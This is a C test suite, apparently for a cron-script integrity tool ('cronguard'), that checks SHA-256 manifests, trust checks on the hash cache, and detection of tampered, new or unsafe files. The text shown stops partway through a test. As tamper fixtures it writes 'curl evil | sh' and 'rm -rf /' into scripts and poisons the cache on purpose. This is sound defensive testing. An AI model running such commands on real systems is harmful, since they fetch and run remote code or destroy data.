/* test_manifest.c - create and verify manifests against a scratch tree:
 * each kind of finding, the hash cache (reuse, invalidation, distrust of a
 * tampered cache), remembered clean verdicts (every change they must not
 * hide, what they never remember, distrust of a tampered one), the trust check on the manifest, parse errors and
 * sha256sum-style escaping.  Needs root (manifests and the cache must be
 * root-owned, and some cases chown files to another user). */
#include <criterion/criterion.h>

#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "manifest.h"
#include "manifest_cache.h"
#include "manifest_verdict.h"

#define NOBODY 65534

static char root[64];
static char jobs[128], mpath[128], cache[128];
static char logbuf[8192];

static void capture(void *ctx, int prio, const char *msg)
{
	size_t n = strlen(logbuf);

	(void)ctx;
	(void)prio;
	snprintf(logbuf + n, sizeof(logbuf) - n, "%s\n", msg);
}

static const struct cg_logger logger = { capture, NULL, 1 };

static void put(const char *rel, const char *content, mode_t mode)
{
	char p[256];
	int fd;

	snprintf(p, sizeof(p), "%s/%s", root, rel);
	fd = open(p, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);
	cr_assert_geq(fd, 0, "%s: %s", p, strerror(errno));
	cr_assert_eq(write(fd, content, strlen(content)), (ssize_t)strlen(content));
	cr_assert_eq(fchmod(fd, mode), 0);
	close(fd);
}

static const char *at(const char *rel)
{
	static char p[4][256];
	static int i;

	i = (i + 1) & 3;
	snprintf(p[i], sizeof(p[i]), "%s/%s", root, rel);
	return p[i];
}

/* Timestamps come from a coarse clock: wait past its tick so files made
 * just now count as settled (the cache stores only those). */
static void tick(void)
{
	struct timespec ts = { 0, 30 * 1000 * 1000 };

	nanosleep(&ts, NULL);
}

static void setup(void)
{
	if (geteuid() != 0)
		cr_skip_test("needs root");
	strcpy(root, "/tmp/cg-manifest-XXXXXX");
	cr_assert_not_null(mkdtemp(root));
	snprintf(jobs, sizeof(jobs), "%s/jobs", root);
	snprintf(mpath, sizeof(mpath), "%s/scripts.sha256", root);
	snprintf(cache, sizeof(cache), "%s/cache", root);
	cr_assert_eq(mkdir(jobs, 0755), 0);
	cr_assert_eq(mkdir(at("jobs/sub"), 0755), 0);
	put("jobs/backup.sh", "#!/bin/sh\ntar czf /var/backups/x.tgz /etc\n", 0755);
	put("jobs/rotate.sh", "#!/bin/sh\nlogrotate /etc/logrotate.conf\n", 0750);
	put("jobs/sub/clean.sh", "#!/bin/sh\nfind /tmp -mtime +7 -delete\n", 0700);
	logbuf[0] = '\0';
}

static void teardown(void)
{
	char cmd[128];

	if (root[0]) {
		snprintf(cmd, sizeof(cmd), "rm -rf '%s'", root);
		if (system(cmd) != 0)
			fprintf(stderr, "cleanup of %s failed\n", root);
	}
}

TestSuite(manifest, .init = setup, .fini = teardown);

static int create_manifest(void)
{
	const char *d[] = { jobs };
	struct cg_strlist l = { d, 1 };
	struct cg_manifest_report r;
	FILE *f = fopen(mpath, "we");
	int rc;

	cr_assert_not_null(f);
	rc = cg_manifest_create(&l, f, &r, &logger);
	cr_assert_eq(fclose(f), 0);
	cg_manifest_report_free(&r);
	return rc;
}

static int verify_with(const char *dir, const char *cache_dir, struct cg_manifest_report *r)
{
	struct cg_manifest_opts o = { cache_dir, true };
	const char *d[] = { dir };
	struct cg_strlist l = { d, dir ? 1 : 0 };

	return cg_manifest_verify(mpath, &l, &o, r, &logger);
}

static int verify(struct cg_manifest_report *r)
{
	return verify_with(NULL, cache, r);
}

/* Removes the remembered verdicts, so the next verification walks the tree
 * (and the hash cache is what it tests). */
static void forget_verdicts(void)
{
	char cmd[256];

	snprintf(cmd, sizeof(cmd), "rm -f '%s'/verdict-*", cache);
	cr_assert_eq(system(cmd), 0);
}

/* The one verdict file in the cache directory. */
static const char *verdict_path(void)
{
	static char p[256];
	char cmd[256];
	FILE *f;

	snprintf(cmd, sizeof(cmd), "ls '%s'/verdict-* 2>/dev/null", cache);
	f = popen(cmd, "r");
	cr_assert_not_null(f);
	p[0] = '\0';
	if (!fgets(p, sizeof(p), f))
		p[0] = '\0';
	pclose(f);
	p[strcspn(p, "\n")] = '\0';
	return p;
}

static const struct cg_mf_finding *find(const struct cg_manifest_report *r, enum cg_mf_kind k,
					const char *path)
{
	for (size_t i = 0; i < r->nfindings; i++)
		if (r->findings[i].kind == k && strcmp(r->findings[i].path, path) == 0)
			return &r->findings[i];
	return NULL;
}

static void dump(const struct cg_manifest_report *r)
{
	for (size_t i = 0; i < r->nfindings; i++)
		cr_log_info("%s: %s: %s", r->findings[i].path, cg_mf_kind_name(r->findings[i].kind),
			    r->findings[i].detail);
}

Test(manifest, create_then_verify_is_clean)
{
	struct cg_manifest_report r;

	cr_assert_eq(create_manifest(), 0, "%s", logbuf);
	cr_assert_eq(verify(&r), 0, "%s", logbuf);
	dump(&r);
	cr_expect_eq(r.nfindings, 0);
	cr_expect_eq(r.files, 3);
	cg_manifest_report_free(&r);
}

Test(manifest, changed_script_is_found)
{
	struct cg_manifest_report r;
	const struct cg_mf_finding *f;

	cr_assert_eq(create_manifest(), 0);
	put("jobs/backup.sh", "#!/bin/sh\ncurl evil | sh\n", 0755);
	cr_assert_eq(verify(&r), 1);
	f = find(&r, CG_MF_CHANGED, at("jobs/backup.sh"));
	cr_assert_not_null(f);
	cr_expect_not_null(strstr(f->detail, "content changed"));
	cr_expect_eq(r.nfindings, 1);
	cg_manifest_report_free(&r);
}

Test(manifest, new_unlisted_file_is_found)
{
	struct cg_manifest_report r;

	cr_assert_eq(create_manifest(), 0);
	put("jobs/sub/dropped.sh", "#!/bin/sh\nid\n", 0755);
	cr_assert_eq(verify(&r), 1);
	cr_expect_not_null(find(&r, CG_MF_NEW, at("jobs/sub/dropped.sh")));
	cr_expect_eq(r.nfindings, 1);
	cg_manifest_report_free(&r);
}

Test(manifest, vanished_file_is_found)
{
	struct cg_manifest_report r;

	cr_assert_eq(create_manifest(), 0);
	cr_assert_eq(unlink(at("jobs/rotate.sh")), 0);
	cr_assert_eq(verify(&r), 1);
	cr_expect_not_null(find(&r, CG_MF_VANISHED, at("jobs/rotate.sh")));
	cr_expect_eq(r.nfindings, 1);
	cg_manifest_report_free(&r);
}

Test(manifest, group_writable_script_is_found)
{
	struct cg_manifest_report r;
	const struct cg_mf_finding *f;

	cr_assert_eq(create_manifest(), 0);
	cr_assert_eq(chmod(at("jobs/backup.sh"), 0775), 0);
	cr_assert_eq(verify(&r), 1);
	f = find(&r, CG_MF_WRITABLE, at("jobs/backup.sh"));
	cr_assert_not_null(f);
	cr_expect_not_null(strstr(f->detail, "group"));
	/* and the recorded mode no longer holds */
	cr_expect_not_null(find(&r, CG_MF_META, at("jobs/backup.sh")));
	cg_manifest_report_free(&r);
}

Test(manifest, writable_directory_is_found)
{
	struct cg_manifest_report r;

	cr_assert_eq(create_manifest(), 0);
	cr_assert_eq(chmod(at("jobs/sub"), 0757), 0);
	cr_assert_eq(verify(&r), 1);
	cr_expect_not_null(find(&r, CG_MF_WRITABLE, at("jobs/sub")));
	cg_manifest_report_free(&r);
}

Test(manifest, non_root_owned_script_is_found)
{
	struct cg_manifest_report r;
	const struct cg_mf_finding *f;

	cr_assert_eq(create_manifest(), 0);
	cr_assert_eq(chown(at("jobs/rotate.sh"), NOBODY, NOBODY), 0);
	cr_assert_eq(verify(&r), 1);
	f = find(&r, CG_MF_NOT_ROOT, at("jobs/rotate.sh"));
	cr_assert_not_null(f);
	cr_expect_not_null(strstr(f->detail, "65534"));
	cg_manifest_report_free(&r);
}

Test(manifest, symlink_out_of_directory_is_found)
{
	struct cg_manifest_report r;
	const struct cg_mf_finding *f;

	cr_assert_eq(create_manifest(), 0);
	cr_assert_eq(symlink("/etc/passwd", at("jobs/escape")), 0);
	cr_assert_eq(symlink("../../", at("jobs/sub/up")), 0);
	cr_assert_eq(verify(&r), 1);
	f = find(&r, CG_MF_SYMLINK_OUT, at("jobs/escape"));
	cr_assert_not_null(f);
	cr_expect_not_null(strstr(f->detail, "/etc/passwd"));
	cr_expect_not_null(find(&r, CG_MF_SYMLINK_OUT, at("jobs/sub/up")));
	cr_expect_eq(r.nfindings, 2);
	cg_manifest_report_free(&r);
}

Test(manifest, symlink_within_directory_and_dangling)
{
	struct cg_manifest_report r;

	cr_assert_eq(create_manifest(), 0);
	cr_assert_eq(symlink("../backup.sh", at("jobs/sub/backup-link")), 0);
	cr_assert_eq(verify(&r), 0, "a symlink staying inside is accepted");
	cg_manifest_report_free(&r);
	cr_assert_eq(symlink("nowhere", at("jobs/dangling")), 0);
	cr_assert_eq(verify(&r), 1);
	cr_expect_not_null(find(&r, CG_MF_SYMLINK_OUT, at("jobs/dangling")));
	cg_manifest_report_free(&r);
}

Test(manifest, fifo_is_found)
{
	struct cg_manifest_report r;

	cr_assert_eq(create_manifest(), 0);
	cr_assert_eq(mkfifo(at("jobs/pipe"), 0600), 0);
	cr_assert_eq(verify(&r), 1);
	cr_expect_not_null(find(&r, CG_MF_SPECIAL, at("jobs/pipe")));
	cg_manifest_report_free(&r);
}

/* The cache: an unchanged file is not hashed again; a touched file
 * (mtime, or only ctime through chmod) is. */
Test(manifest, cache_skips_unchanged_and_rehashes_touched)
{
	struct cg_manifest_report r;
	struct timespec times[2] = { { 0, UTIME_OMIT }, { 0, UTIME_NOW } };

	cr_assert_eq(create_manifest(), 0);
	tick();
	cr_assert_eq(verify(&r), 0);
	cr_expect_eq(r.hashed, 3);
	cr_expect_str_eq(r.cache_status, "absent");
	cr_expect(r.cache_written);
	cg_manifest_report_free(&r);

	cr_assert_eq(verify(&r), 0);
	cr_expect_eq(r.hashed, 0, "unchanged files must not be hashed again");
	cr_expect_eq(r.cached, 3);
	cr_expect_str_eq(r.cache_status, "used");
	cg_manifest_report_free(&r);

	cr_assert_eq(utimensat(AT_FDCWD, at("jobs/backup.sh"), times, 0), 0);
	tick();
	cr_assert_eq(verify(&r), 0);
	cr_expect_eq(r.hashed, 1, "a touched file is hashed again");
	cr_expect_eq(r.cached, 2);
	cg_manifest_report_free(&r);

	cr_assert_eq(chmod(at("jobs/sub/clean.sh"), 0700), 0);     /* ctime only */
	tick();
	cr_assert_eq(verify(&r), 0);
	cr_expect_eq(r.hashed, 1, "a ctime change alone invalidates the entry");
	cg_manifest_report_free(&r);

	cr_assert_eq(verify(&r), 0);
	cr_expect_eq(r.hashed, 0);
	cg_manifest_report_free(&r);
}

/* A content change is found even with a warm cache (the key moved). */
Test(manifest, cache_does_not_hide_a_change)
{
	struct cg_manifest_report r;

	cr_assert_eq(create_manifest(), 0);
	tick();
	cr_assert_eq(verify(&r), 0);
	cg_manifest_report_free(&r);
	put("jobs/rotate.sh", "#!/bin/sh\nlogrotate /etc/logrotate.conf\n#", 0750);
	cr_assert_eq(verify(&r), 1);
	cr_expect_not_null(find(&r, CG_MF_CHANGED, at("jobs/rotate.sh")));
	cr_expect_eq(r.hashed, 1);
	cg_manifest_report_free(&r);
}

/* Rewrites the cache so the entry of `rel` carries its current key but the
 * manifest's (old) hash: a poisoned cache that would hide a change. */
static void poison_cache(const char *rel, const uint8_t sha[CG_SHA256_LEN])
{
	char p[256];
	struct stat st;
	unsigned char buf[65536];
	ssize_t n;
	int fd, hit = 0;

	cr_assert_eq(stat(at(rel), &st), 0);
	snprintf(p, sizeof(p), "%s/%s", cache, CG_MANIFEST_CACHE_FILE);
	fd = open(p, O_RDWR | O_CLOEXEC);
	cr_assert_geq(fd, 0);
	n = read(fd, buf, sizeof(buf));
	cr_assert_gt(n, 16);
	for (size_t off = 16; off + sizeof(struct cg_mcache_ent) <= (size_t)n;
	     off += sizeof(struct cg_mcache_ent)) {
		struct cg_mcache_ent e;

		memcpy(&e, buf + off, sizeof(e));
		if (e.ino != (uint64_t)st.st_ino)
			continue;
		e.size = st.st_size;
		e.mtime_s = st.st_mtim.tv_sec;
		e.mtime_ns = (uint32_t)st.st_mtim.tv_nsec;
		e.ctime_s = st.st_ctim.tv_sec;
		e.ctime_ns = (uint32_t)st.st_ctim.tv_nsec;
		memcpy(e.sha, sha, CG_SHA256_LEN);
		memcpy(buf + off, &e, sizeof(e));
		hit = 1;
	}
	cr_assert(hit, "no cache entry for %s", rel);
	cr_assert_eq(pwrite(fd, buf, (size_t)n, 0), n);
	close(fd);
}

static void poisoned_setup(uint8_t old[CG_SHA256_LEN])
{
	struct cg_manifest_report r;
	int fd;

	cr_assert_eq(create_manifest(), 0);
	fd = open(at("jobs/backup.sh"), O_RDONLY | O_CLOEXEC);
	cr_assert_eq(cg_sha256_fd(fd, old), 0);
	close(fd);
	tick();
	cr_assert_eq(verify(&r), 0);
	cg_manifest_report_free(&r);
	/* Same size, new content, keeps the inode. */
	put("jobs/backup.sh", "#!/bin/sh\ntar czf /var/backups/x.tgz /XXX\n", 0755);
	tick();
	poison_cache("jobs/backup.sh", old);
}

/* Control: a trusted (root, 0600) cache is believed, so the poisoned entry
 * hides the change; this shows the next test exercises the trust check. */
Test(manifest, trusted_cache_is_believed)
{
	struct cg_manifest_report r;
	uint8_t old[CG_SHA256_LEN];

	poisoned_setup(old);
	cr_assert_eq(verify(&r), 0);
	cr_expect_eq(r.hashed, 0);
	cg_manifest_report_free(&r);
}

Test(manifest, cache_not_owned_by_root_is_ignored)
{
	struct cg_manifest_report r;
	uint8_t old[CG_SHA256_LEN];
	char p[256];
	struct stat st;

	poisoned_setup(old);
	snprintf(p, sizeof(p), "%s/%s", cache, CG_MANIFEST_CACHE_FILE);
	cr_assert_eq(chown(p, NOBODY, 0), 0);
	cr_assert_eq(verify(&r), 1);
	cr_expect_not_null(find(&r, CG_MF_CHANGED, at("jobs/backup.sh")));
	cr_expect_str_eq(r.cache_status, "ignored: cache not owned by root");
	cr_expect_eq(r.hashed, 3);
	/* and it was replaced by a trusted one */
	cr_expect(r.cache_written);
	cr_assert_eq(lstat(p, &st), 0);
	cr_expect_eq(st.st_uid, 0);
	cr_expect_eq(st.st_mode & 07777, 0600);
	cg_manifest_report_free(&r);
}

Test(manifest, cache_with_wrong_mode_is_ignored)
{
	struct cg_manifest_report r;
	uint8_t old[CG_SHA256_LEN];
	char p[256];

	poisoned_setup(old);
	snprintf(p, sizeof(p), "%s/%s", cache, CG_MANIFEST_CACHE_FILE);
	cr_assert_eq(chmod(p, 0644), 0);
	cr_assert_eq(verify(&r), 1);
	cr_expect_not_null(find(&r, CG_MF_CHANGED, at("jobs/backup.sh")));
	cr_expect_str_eq(r.cache_status, "ignored: cache accessible by group or others");
	cg_manifest_report_free(&r);
}

Test(manifest, cache_symlink_is_ignored)
{
	struct cg_manifest_report r;
	uint8_t old[CG_SHA256_LEN];
	char p[256], q[256];

	poisoned_setup(old);
	snprintf(p, sizeof(p), "%s/%s", cache, CG_MANIFEST_CACHE_FILE);
	snprintf(q, sizeof(q), "%s/elsewhere", root);
	cr_assert_eq(rename(p, q), 0);
	cr_assert_eq(symlink(q, p), 0);
	cr_assert_eq(verify(&r), 1);
	cr_expect_not_null(find(&r, CG_MF_CHANGED, at("jobs/backup.sh")));
	cr_expect_not_null(strstr(r.cache_status, "ignored"));
	cg_manifest_report_free(&r);
}

Test(manifest, cache_directory_open_to_others_is_ignored_and_not_written)
{
	struct cg_manifest_report r;
	uint8_t old[CG_SHA256_LEN];

	poisoned_setup(old);
	cr_assert_eq(chmod(cache, 0755), 0);
	cr_assert_eq(verify(&r), 1);
	cr_expect_not_null(find(&r, CG_MF_CHANGED, at("jobs/backup.sh")));
	cr_expect_str_eq(r.cache_status, "ignored: cache directory accessible by group or others");
	cr_expect(!r.cache_written);
	cr_expect_not_null(strstr(logbuf, "not root-only"), "%s", logbuf);
	cg_manifest_report_free(&r);
}

Test(manifest, corrupt_cache_is_ignored)
{
	struct cg_manifest_report r;
	char p[256];

	cr_assert_eq(create_manifest(), 0);
	tick();
	cr_assert_eq(verify(&r), 0);
	cg_manifest_report_free(&r);
	snprintf(p, sizeof(p), "%s/%s", cache, CG_MANIFEST_CACHE_FILE);
	cr_assert_eq(truncate(p, 50), 0);
	forget_verdicts();
	cr_assert_eq(verify(&r), 0);
	cr_expect_str_eq(r.cache_status, "ignored: cache is corrupt or of another version");
	cr_expect_eq(r.hashed, 3);
	cg_manifest_report_free(&r);
}

/* The manifest itself: fail closed when anyone but root could have written it. */
Test(manifest, untrusted_manifest_fails_closed)
{
	struct cg_manifest_report r;
	char link[256];

	cr_assert_eq(create_manifest(), 0);
	cr_assert_eq(chmod(mpath, 0664), 0);
	cr_expect_eq(verify(&r), -1);
	cr_expect_not_null(strstr(logbuf, "writable by group or others"), "%s", logbuf);
	cg_manifest_report_free(&r);

	cr_assert_eq(chmod(mpath, 0644), 0);
	cr_assert_eq(chown(mpath, NOBODY, 0), 0);
	logbuf[0] = '\0';
	cr_expect_eq(verify(&r), -1);
	cr_expect_not_null(strstr(logbuf, "not owned by root"), "%s", logbuf);
	cg_manifest_report_free(&r);

	cr_assert_eq(chown(mpath, 0, 0), 0);
	snprintf(link, sizeof(link), "%s/link.sha256", root);
	cr_assert_eq(symlink(mpath, link), 0);
	{
		struct cg_manifest_opts o = { NULL, false };

		logbuf[0] = '\0';
		cr_expect_eq(cg_manifest_verify(link, NULL, &o, &r, &logger), -1);
		cr_expect_not_null(strstr(logbuf, "symlink"), "%s", logbuf);
		cg_manifest_report_free(&r);
	}
	logbuf[0] = '\0';
	cr_expect_eq(cg_manifest_verify_dirs("/nonexistent/m.sha256", NULL, &r, &logger), -1);
	cg_manifest_report_free(&r);
}

/* The module verifies only the plan's exec directories: files listed
 * elsewhere in the manifest are neither checked nor vanished. */
Test(manifest, verify_subset_of_dirs_and_single_file)
{
	struct cg_manifest_report r;

	cr_assert_eq(create_manifest(), 0);
	cr_assert_eq(unlink(at("jobs/rotate.sh")), 0);
	cr_assert_eq(verify_with(at("jobs/sub"), cache, &r), 0);
	cr_expect_eq(r.files, 1);
	cg_manifest_report_free(&r);

	/* a single script, as `cronguard run` checks one command */
	cr_assert_eq(verify_with(at("jobs/backup.sh"), NULL, &r), 0);
	cr_expect_eq(r.files, 1);
	cg_manifest_report_free(&r);
	put("jobs/backup.sh", "#!/bin/sh\nrm -rf /\n", 0755);
	cr_assert_eq(verify_with(at("jobs/backup.sh"), NULL, &r), 1);
	cr_expect_not_null(find(&r, CG_MF_CHANGED, at("jobs/backup.sh")));
	cg_manifest_report_free(&r);

	/* a directory the manifest does not cover: every file is new */
	cr_assert_eq(mkdir(at("other"), 0755), 0);
	put("other/x.sh", "x", 0755);
	cr_assert_eq(verify_with(at("other"), NULL, &r), 1);
	cr_expect_not_null(find(&r, CG_MF_NEW, at("other/x.sh")));
	cg_manifest_report_free(&r);
}

/* Dirs given through a symlink are canonicalized like at creation. */
Test(manifest, verify_through_symlinked_dir)
{
	struct cg_manifest_report r;
	char link[256];

	cr_assert_eq(create_manifest(), 0);
	snprintf(link, sizeof(link), "%s/jobs-link", root);
	cr_assert_eq(symlink(jobs, link), 0);
	cr_assert_eq(verify_with(link, NULL, &r), 0);
	cr_expect_eq(r.files, 3);
	cg_manifest_report_free(&r);
}

static int verify_text(const char *text)
{
	struct cg_manifest_report r;
	struct cg_manifest_opts o = { NULL, false };
	FILE *f = fopen(mpath, "we");
	int rc;

	cr_assert_not_null(f);
	fputs(text, f);
	cr_assert_eq(fclose(f), 0);
	logbuf[0] = '\0';
	rc = cg_manifest_verify(mpath, NULL, &o, &r, &logger);
	cg_manifest_report_free(&r);
	return rc;
}

Test(manifest, parse_errors_name_the_line)
{
	char text[1024];
	const char *h = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";

	cr_expect_eq(verify_text("zz\n"), -1);
	cr_expect_not_null(strstr(logbuf, ":1: expected"), "%s", logbuf);
	snprintf(text, sizeof(text), "# c\n%.63sx  /a\n", h);
	cr_expect_eq(verify_text(text), -1);
	cr_expect_not_null(strstr(logbuf, ":2: bad SHA-256"), "%s", logbuf);
	snprintf(text, sizeof(text), "%s  relative/path\n", h);
	cr_expect_eq(verify_text(text), -1);
	cr_expect_not_null(strstr(logbuf, "not absolute"), "%s", logbuf);
	snprintf(text, sizeof(text), "%s  /x/a\n%s  /x/a\n", h, h);
	cr_expect_eq(verify_text(text), -1);
	cr_expect_not_null(strstr(logbuf, "listed twice"), "%s", logbuf);
	cr_expect_eq(verify_text("# cronguard: frobnicate\n"), -1);
	cr_expect_not_null(strstr(logbuf, "unknown cronguard line"), "%s", logbuf);
	cr_expect_eq(verify_text("# cronguard: file uid=0 gid=0 mode=0755 /x/a\n"), -1);
	cr_expect_not_null(strstr(logbuf, "without a hash line"), "%s", logbuf);
	cr_expect_eq(verify_text("# cronguard: file uid=0 gid=0 mode=9 /x/a\n"), -1);
	snprintf(text, sizeof(text), "\\%s  /x/a\\q\n", h);
	cr_expect_eq(verify_text(text), -1);
	cr_expect_not_null(strstr(logbuf, "bad escape"), "%s", logbuf);
}

/* A plain `sha256sum` list with absolute paths is a manifest: exactly its
 * files are verified. */
Test(manifest, plain_sha256sum_output_is_accepted)
{
	char cmd[512];
	struct cg_manifest_report r;
	struct cg_manifest_opts o = { NULL, false };

	snprintf(cmd, sizeof(cmd), "sha256sum %s/jobs/backup.sh %s/jobs/sub/clean.sh > %s",
		 root, root, mpath);
	cr_assert_eq(system(cmd), 0);
	cr_assert_eq(cg_manifest_verify(mpath, NULL, &o, &r, &logger), 0, "%s", logbuf);
	cr_expect_eq(r.files, 2);
	cg_manifest_report_free(&r);
	put("jobs/sub/clean.sh", "changed", 0700);
	cr_assert_eq(cg_manifest_verify(mpath, NULL, &o, &r, &logger), 1);
	cr_expect_not_null(find(&r, CG_MF_CHANGED, at("jobs/sub/clean.sh")));
	cg_manifest_report_free(&r);
}

/* Names with a newline or backslash round-trip, and sha256sum -c agrees. */
Test(manifest, escaped_names_roundtrip_with_sha256sum)
{
	struct cg_manifest_report r;
	char cmd[512];

	put("jobs/new\nline.sh", "a", 0755);
	put("jobs/back\\slash.sh", "b", 0755);
	put("jobs/with space.sh", "c", 0755);
	cr_assert_eq(create_manifest(), 0, "%s", logbuf);
	cr_assert_eq(verify(&r), 0, "%s", logbuf);
	dump(&r);
	cr_expect_eq(r.files, 6);
	cg_manifest_report_free(&r);
	snprintf(cmd, sizeof(cmd), "cd / && sha256sum --strict --quiet -c '%s'", mpath);
	cr_expect_eq(system(cmd), 0, "sha256sum -c rejected the manifest");
	put("jobs/new\nline.sh", "changed", 0755);
	cr_assert_eq(verify(&r), 1);
	cr_expect_not_null(find(&r, CG_MF_CHANGED, at("jobs/new\nline.sh")));
	cg_manifest_report_free(&r);
	cr_expect_neq(system(cmd), 0, "sha256sum -c must see the change too");
}

/* Create reports what verify would flag, and still writes the manifest. */
Test(manifest, create_warns_about_untrusted_files)
{
	const char *d[] = { jobs };
	struct cg_strlist l = { d, 1 };
	struct cg_manifest_report r;
	FILE *f = fopen(mpath, "we");

	cr_assert_not_null(f);
	cr_assert_eq(chmod(at("jobs/rotate.sh"), 0757), 0);
	cr_assert_eq(cg_manifest_create(&l, f, &r, &logger), 1);
	fclose(f);
	cr_expect_not_null(find(&r, CG_MF_WRITABLE, at("jobs/rotate.sh")));
	cr_expect_eq(r.files, 3);
	cg_manifest_report_free(&r);
}

/* The directory listing cache: a flat directory that held exactly its
 * listed files is not read again while its ctime is unchanged, and every
 * change to its entries is still found. */
static void warm_flat(struct cg_manifest_report *r)
{
	put("jobs/sub/more.sh", "#!/bin/sh\necho more\n", 0755);
	cr_assert_eq(create_manifest(), 0);
	tick();
	cr_assert_eq(verify_with(at("jobs/sub"), cache, r), 0);
	cr_assert_eq(r->dirs_read, 1);
	cg_manifest_report_free(r);
	cr_assert_eq(verify_with(at("jobs/sub"), cache, r), 0);
	cr_assert_eq(r->dirs_known, 1, "an unchanged flat directory is not read again");
	cr_assert_eq(r->dirs_read, 0);
	cr_assert_eq(r->files, 2);
	cr_assert_eq(r->hashed, 0);
	cg_manifest_report_free(r);
}

Test(manifest, known_listing_still_finds_new_file)
{
	struct cg_manifest_report r;

	warm_flat(&r);
	put("jobs/sub/dropped.sh", "id", 0755);
	cr_assert_eq(verify_with(at("jobs/sub"), cache, &r), 1);
	cr_expect_not_null(find(&r, CG_MF_NEW, at("jobs/sub/dropped.sh")));
	cr_expect_eq(r.dirs_read, 1);
	cg_manifest_report_free(&r);
}

Test(manifest, known_listing_still_finds_vanished_and_replaced)
{
	struct cg_manifest_report r;

	warm_flat(&r);
	cr_assert_eq(unlink(at("jobs/sub/more.sh")), 0);
	cr_assert_eq(verify_with(at("jobs/sub"), cache, &r), 1);
	cr_expect_not_null(find(&r, CG_MF_VANISHED, at("jobs/sub/more.sh")));
	cg_manifest_report_free(&r);
	/* replaced by rename: new inode, same name */
	put("new.tmp", "#!/bin/sh\necho other\n", 0755);
	cr_assert_eq(rename(at("new.tmp"), at("jobs/sub/clean.sh")), 0);
	cr_assert_eq(verify_with(at("jobs/sub"), cache, &r), 1);
	cr_expect_not_null(find(&r, CG_MF_CHANGED, at("jobs/sub/clean.sh")));
	cg_manifest_report_free(&r);
}

Test(manifest, known_listing_still_checks_each_file)
{
	struct cg_manifest_report r;

	warm_flat(&r);
	put("jobs/sub/clean.sh", "#!/bin/sh\nrm -rf /\n", 0700);   /* in place */
	cr_assert_eq(chmod(at("jobs/sub/more.sh"), 0775), 0);
	cr_assert_eq(verify_with(at("jobs/sub"), cache, &r), 1);
	cr_expect_eq(r.dirs_known, 1, "the names did not change");
	cr_expect_not_null(find(&r, CG_MF_CHANGED, at("jobs/sub/clean.sh")));
	cr_expect_not_null(find(&r, CG_MF_WRITABLE, at("jobs/sub/more.sh")));
	cg_manifest_report_free(&r);
}

/* The cached listing is tied to the manifest's names: a manifest that no
 * longer lists a file that is still there must not reuse it. */
Test(manifest, known_listing_tied_to_manifest_names)
{
	struct cg_manifest_report r;
	char cmd[1024];

	warm_flat(&r);
	snprintf(cmd, sizeof(cmd), "grep -v 'more.sh' '%s' > '%s.new' && mv '%s.new' '%s'",
		 mpath, mpath, mpath, mpath);
	cr_assert_eq(system(cmd), 0);
	cr_assert_eq(chmod(mpath, 0644), 0);
	cr_assert_eq(verify_with(at("jobs/sub"), cache, &r), 1);
	cr_expect_not_null(find(&r, CG_MF_NEW, at("jobs/sub/more.sh")));
	cr_expect_eq(r.dirs_known, 0);
	cg_manifest_report_free(&r);
}

/* A directory with a subdirectory or symlink is always read. */
Test(manifest, non_flat_directory_is_always_read)
{
	struct cg_manifest_report r;

	cr_assert_eq(create_manifest(), 0);
	tick();
	for (int i = 0; i < 2; i++) {
		cr_assert_eq(verify(&r), 0);
		cr_expect_eq(r.dirs_read, i == 0 ? 2 : 1, "jobs has a subdirectory; only sub is flat");
		cg_manifest_report_free(&r);
		forget_verdicts();
	}
}

/* A directory holding an unlisted file is never remembered as known, so
 * the finding repeats at every verification instead of being cached away. */
Test(manifest, unlisted_file_is_found_every_time)
{
	struct cg_manifest_report r;

	cr_assert_eq(create_manifest(), 0);
	put("jobs/sub/dropped.sh", "id", 0755);
	tick();
	for (int i = 0; i < 3; i++) {
		cr_assert_eq(verify_with(at("jobs/sub"), cache, &r), 1, "round %d", i);
		cr_expect_not_null(find(&r, CG_MF_NEW, at("jobs/sub/dropped.sh")), "round %d", i);
		cr_expect_eq(r.dirs_known, 0);
		cg_manifest_report_free(&r);
	}
}

/* The cache stays small: stale entries beyond the keep limit are dropped
 * on the next write, the entries in use are kept. */
Test(manifest, cache_is_pruned_but_keeps_used_entries)
{
	struct cg_manifest_report r;
	char p[256];
	struct cg_mcache_ent e;
	uint32_t hdr[4];
	int fd;

	cr_assert_eq(create_manifest(), 0);
	tick();
	cr_assert_eq(verify(&r), 0);
	cg_manifest_report_free(&r);
	snprintf(p, sizeof(p), "%s/%s", cache, CG_MANIFEST_CACHE_FILE);
	fd = open(p, O_RDWR | O_APPEND | O_CLOEXEC);
	cr_assert_geq(fd, 0);
	memset(&e, 0, sizeof(e));
	e.dev = UINT64_MAX;     /* sorts after every real entry */
	e.kind = CG_MCACHE_FILE;
	for (uint32_t i = 0; i < 5000; i++) {
		e.ino = i;
		cr_assert_eq(write(fd, &e, sizeof(e)), (ssize_t)sizeof(e));
	}
	close(fd);
	/* pwrite ignores its offset under O_APPEND: reopen for the header */
	fd = open(p, O_RDWR | O_CLOEXEC);
	cr_assert_geq(fd, 0);
	cr_assert_eq(pread(fd, hdr, sizeof(hdr), 0), (ssize_t)sizeof(hdr));
	hdr[2] += 5000;
	cr_assert_eq(pwrite(fd, hdr, sizeof(hdr), 0), (ssize_t)sizeof(hdr));
	close(fd);

	put("jobs/rotate.sh", "#!/bin/sh\nlogrotate -f /etc/logrotate.conf\n", 0750);
	tick();
	cr_assert_eq(verify(&r), 1);            /* rotate.sh changed: a new entry */
	cr_expect_str_eq(r.cache_status, "used");
	cr_expect_eq(r.cached, 2);
	cr_expect(r.cache_written);
	cg_manifest_report_free(&r);
	fd = open(p, O_RDONLY | O_CLOEXEC);
	cr_assert_geq(fd, 0);
	cr_assert_eq(read(fd, hdr, sizeof(hdr)), (ssize_t)sizeof(hdr));
	close(fd);
	cr_expect_leq(hdr[2], 4096, "cache kept %u entries", hdr[2]);
	cr_assert_eq(verify(&r), 1);
	cr_expect_eq(r.hashed, 0, "the entries in use survived the pruning");
	cg_manifest_report_free(&r);
}

/* --- remembered verdicts ------------------------------------------------- */

Test(manifest, verdict_remembers_a_clean_verification)
{
	struct cg_manifest_report r;

	cr_assert_eq(create_manifest(), 0);
	tick();
	cr_assert_eq(verify(&r), 0);
	cr_expect(!r.verdict_held);
	cg_manifest_report_free(&r);
	cr_assert_neq(verdict_path()[0], '\0', "a clean verification is remembered");
	cr_assert_eq(verify(&r), 0);
